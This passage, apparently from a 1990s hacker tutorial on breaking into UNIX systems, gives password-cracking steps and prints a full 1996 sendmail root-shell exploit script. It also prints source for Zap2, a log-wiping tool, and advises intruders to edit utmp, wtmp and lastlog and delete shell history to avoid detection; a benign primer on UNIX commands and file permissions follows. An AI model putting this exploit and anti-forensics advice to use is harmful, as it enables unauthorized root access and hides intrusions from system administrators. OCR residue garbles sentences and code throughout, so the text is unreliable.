users with no password. This can be told by the blank space in thepassword
field. Then, if you have a shadow file, copy the actual passwords into the
password file and replace the tokens. Now you will have a password file ready
to crack. You can crack password files with several popular programs, some
of which are available on the rootshell website. Some of there programs are
"Crack", which is available for UNIX platforms, and at this time, is at version
5.0. A password cracker called "John The Ripper" is a popular one for DOS
and Windows boxes.

If the cracker comes up with any passwords, then you just got a few new
accounts on the box, and if you come up with a root password, then
congratulations, you just own the box.

Onto the other method, which is the buffer overflow method. Buffer overflows
are commonly done with exploit programs. Buffer overflows take advantage of
poorly written SUID programs. When a buffer overflow is used on a SUID root
program, the program may crash, and in circumstances, leave you with a
privelaged shell. An example of a bufferoverflow exploit for an old version
of Sendmail is shown below:

#                                   Hi !
#                This is exploit for sendmail smtpd bug
#    (ver. 8.7-8.8.2 for FreeBSD, Linux and may be other platforms).
#         This shell script does a root shell in /tmp directory.
#          If you have any problems with it, drop me a letter.
#                                Have fun !
#                           ---
#               ---
#    ---   Dedicated to my beautiful lady   ---
#               ---
#                           ---
#          Leshka Zakharoff, 1996. E-mail:
echo   'main()                                                '>>leshka.c
echo   '{                                                     '>>leshka.c
echo   '  execl("/usr/sbin/sendmail","/tmp/smtpd",0);         '>>leshka.c
echo   '}                                                     '>>leshka.c
echo   'main()                                                '>>smtpd.c
echo   '{                                                     '>>smtpd.c
echo   '  setuid(0); setgid(0);                               '>>smtpd.c
echo   '  system("cp /bin/sh /tmp;chmod a=rsx /tmp/sh");      '>>smtpd.c
echo   '}                                                     '>>smtpd.c
cc -o leshka leshka.c;cc -o /tmp/smtpd smtpd.ckill -HUP `ps -ax|grep /tmp/smtpd|grep -v grep|tr -d ' '|tr -cs "[:digit:]" "\n"
|head -n 1`
rm leshka.c leshka smtpd.c /tmp/smtpd
echo "Now type:   /tmp/sh"

This exploit is a shell script that echoes some C code into two C files, and
the compiles and runs them, with the result of giving a root shell on systems
running a vulnerable version of sendmail.There is not much else to say about buffer exploits - they are quickly used
to get access on a system. The question now is what to do once you have
broken into a system.

Once you have broken a system, you can use it as a base of attack against
other systems, steal files, and other things. If you have taken root, consider
the system your own - you can do whatever you please - add users, delete and
add files, make the system wide open or lock it down. I assume you've read
all thestuff out there on ethics - i'm not gonna say much here but if you
break a system, dont be an ass and do things like removing legitimate users,
deleting the files of legitimate users, crashing the system, or other things
that make true hell for the real day-to-day users of the system.

The remainder of this file will feature commands and strategies for moving
around inside UNIX systems. Once you have gotten into a UNIX system, you will
be logged in, and your shell will start. There are many shells,but the most
numerous of them are the Bourne shell [sh or bash], the C shell [csh], the
Korn shell [ksh], and the Z shell [zsh]. Depending on the system, you will
also see the date of the last login on the account, and the destination from
where it occured. This is important. If you want to prolong your stay on
a system, you must be careful to call as little attention to yourself as
possible. That means WATCH YOUR LOGS. If you have a regular user account, there
is not much you can do but try and stay out of the logs as much as possible,
but if you have root, you can remove your presence entirely! There are many
programs that relieve you from doing this task by hand; agood one is called
Zap2, which is listed below.

#include <sys/types.h>
#include <stdio.h>
#include <unistd.h>
#include <sys/file.h>
#include <fcntl.h>
#include <utmp.h>
#include <pwd.h>
#include <lastlog.h>
#define WTMP_NAME "/usr/adm/wtmp"
#define UTMP_NAME "/etc/utmp"
#define LASTLOG_NAME "/usr/adm/lastlog"

int f;

void kill_utmp(who)
char *who;struct utmp utmp_ent;

  if ((f=open(UTMP_NAME,O_RDWR))>=0) {
     while(read (f, &utmp_ent, sizeof (utmp_ent))> 0 )
       if (!strncmp(utmp_ent.ut_name,who,strlen(who))) {
                 bzero((char *)&utmp_ent,sizeof( utmp_ent ));
                 lseek (f, -(sizeof (utmp_ent)), SEEK_CUR);
                 write (f, &utmp_ent, sizeof (utmp_ent));

void kill_wtmp(who)
char *who;
    struct utmp utmp_ent;
    long pos;

    pos = 1L;
    if ((f=open(WTMP_NAME,O_RDWR))>=0) {

     while(pos != -1L) {
        lseek(f,-(long)( (sizeof(struct utmp)) * pos),L_XTND);
        if (read (f, &utmp_ent, sizeof (struct utmp))<0) {
          pos = -1L;
        } else {
          if (!strncmp(utmp_ent.ut_name,who,strlen(who))) {bzero((char *)&utmp_ent,sizeof(struct utmp ));
               lseek(f,-( (sizeof(struct utmp)) * pos),L_XTND);
               write (f, &utmp_ent, sizeof (utmp_ent));
               pos = -1L;
          } else pos += 1L;

void kill_lastlog(who)
char *who;
    struct passwd *pwd;
    struct lastlog newll;

     if ((pwd=getpwnam(who))!=NULL) {

        if ((f=open(LASTLOG_NAME, O_RDWR)) >= 0) {
            lseek(f, (long)pwd->pw_uid * sizeof (struct lastlog), 0);
            bzero((char *)&newll,sizeof( newll ));
            write(f, (char *)&newll, sizeof( newll ));

void kill_lastlog(who)
char *who;
    struct passwd *pwd;
    struct lastlog newll;

     if ((pwd=getpwnam(who))!=NULL) {

        if ((f=open(LASTLOG_NAME, O_RDWR)) >= 0) {
            lseek(f, (long)pwd->pw_uid * sizeof (struct lastlog), 0);
            bzero((char *)&newll,sizeof( newll ));write(f, (char *)&newll, sizeof( newll ));

    } else printf("%s: ?\n",who);

int argc;
char *argv[];
    if (argc==2) {
    } else

Using this program, you can make yourself nearly invisible on a machine.
Remember, edit the logs - dont delete them. Deleting or completely destroying
log files is sure to trigger the administrators suspicions. Also, you must
keep track of your history files. These contain every command you  have entered
while your were logged in, and can be dangerous evidence if you are caught.
Be sure to look for fileslike ".history" and ".bash_history" in the home
directory of the account you are using and delete them!

So, now that you have access, you will need to know the commands UNIX uses to
get around. You might be familiar with them,as Microsoft ripped off some
of the UNIX command names in DOS. (Note that UNIX commands are case sensitive)

UNIX Command            DOS Equivelant          Function

    ls                      DIR                 List files in directory
    ls -l                   DIR /W              List files in directory [long]
    ls -a                   DIR /AH             List files in directory [all]
    cd                      CD                  Change directory
    rm                      DEL                 Delete file
    cp                      COPY                Copy file
    mv                      MOVE                Move file
    ln                      N/A                 Create "link" to a file
                                                [similar to "shortcuts" in W95]
    ps                      N/A                 Show processes running [you]
    ps -uax                 N/A                 Show processes running
                                                [with extra info, all users]
    w                       N/A                 Show users logged in
    logout                  N/A                 Logout of system
    chmod                   ATTRIB              Change fileattributes
    chown                   N/A                 Change file ownership
    man                     HELP                Help on commands [syntax, etc]
    gcc                     N/A                 Compile C files
    cc                      N/A                 Compile C files
    netstat                 N/A                 Show network information
                                                [open connections, etc]
    ifconfig                N/A                 Show information on network
                                                interfaces [e.g. ethernet
                                                cards, ppp links]
    du                      CHKDSK              Show disk usage
Obviously, the UNIX command structure is a lot more broad and powerful than
that of DOS. There are hundreds of UNIX commands, with only the common oneslisted above. Now to some more information on the UNIX filesystem.

The UNIX filesystem is also very powerful and advanced. It allows filenames
with names up to 255 characters in some implementations, and you are not
restricted byhaving to have a three character extention on the end. That
is where filenames like "ssh-1.2.22.tar.gz" come in (heh). The UNIX directory
system uses the "/" character to seperate directories, unlike DOS, which
uses a "\", and, unlike DOS, UNIX does not use "drive letters". In UNIX,
disks are mounted under directories. For instance, one might have two drives.
In DOS, they might be called C: and D:, but in UNIX, they might be mounted
under the "/" directory and the "/usr" directory.

New User Definition [/]: The root directory in UNIX. All other directories are
mounted from here. If this confuses you, think of "/" as "C:\".

The UNIX filesystem also follows, to a certain extent, a standard format. This
is illustrated below in a diagram:

/bin    /usr    /var    /etc    /dev  /lost+found  /proc /mnt  /sbin /tmp /home
What is in these directories?
/bin: Contains necessary system binaries, such as ls, rm, etc.
/etc: Contains all system configuration information.
/dev: Contains system device files.
/var: Contains logfiles, mail and news spool directories, etc.
/home: Contains user home directories [sometimes these are in /usr]
/usr: Contains most system executables and files. Binaries in /usr/bin,
      C compiler include files in /usr/include, Manual pages in /usr/man,
      shared libraries in /usr/lib [sometimes this is in /lib].
/lost+found: Contains inodes that may have become corrupted in system
/mnt: Removable drives are sometimes mounted here, such as floppies, etc.
/tmp: Directory where temporary files are stored. Contents of this directory
      are usually deleted everytime the system starts up or reboots.
/proc: This is a "virtual filesystem" that contains information on all the
       processes that are currently running on the system at the time./sbin: This is mostly where files used for system diagnostics and
       administration are stored. Sometimes, system daemons are stored here,
       also, instead of in /usr/sbin.

The UNIX filesystem also has a set of bits thatset attributes about a file.
Wheras DOS has perhaps three or four attribute bits, UNIX has many more. They
are given in a format as follows:

The UNIX attribute bit system has four positions:

            - --- --- ---
            1  2   3   4
The first position is simply a bit that indicates if the file is "special". A
file can be "special" in a number of ways. There are four bits that can be set
in the first position. They are:

d: File is a directory.
l: File is a link.
c: File is a character device.
b: File is a block device.A file that just has "-" in the first position is simply a regular data or
executable file.

The second position is a set of three bits that indicates what privelages the
owner has in regard to the file. Each bit has one setting, and they are as

r: User has "read" permission to file.
w: User has "write" permission to file.
x: User has "execute" permission to file.
s: The SUID bit (see below).

There is also a fourth bit, the SUID bit. This will take the place of the "x"
bit, so if you see a file with permissions like "rwsr-xr-x", you know it is

The third position is what privelages the members of the group that owns the
file has in regard to the file. It also has three bits with one setting, and
they are the same as above - read, write, and execute.

The fourth and final position is what privelages "other users" have in regard
to the file."Other users" consists of any user that does not own the file or
that is not in the group that owns the file. It also contains three bits with
one setting each, and they are the same as above also - read, write, and

Given below are some examples of a "ls -l" directory listing that show the
ownership and permissions on the file.

-r---  1   root    root    715 Jun 14 16:16    /etc/shadowHere, the file "/etc/shadow" is owned by the root user and the root group,
and can only be read by the root user. Any other person on the system cannot
read, write to, or execute [run] the file.

lrwxrwxrwx  1   root    root    8   Aug 28 1997 /tmp -> /var/tmp

Here, the file "/tmp" is a link to the directory "/var/tmp".  It is owned by
the root user and the root group, and is readable, writable, and executable
by any user on the system.

drwxr-xr-x  8   root    root    1024    Jun 18 14:15    mothra

Here is a directory, owned by user root and group root. The user root can
read, write to, and execute the directory. The other members of the root
group can read the directory and execute it, but not write to it. Other
users on the system who are not members of the root group or the user root
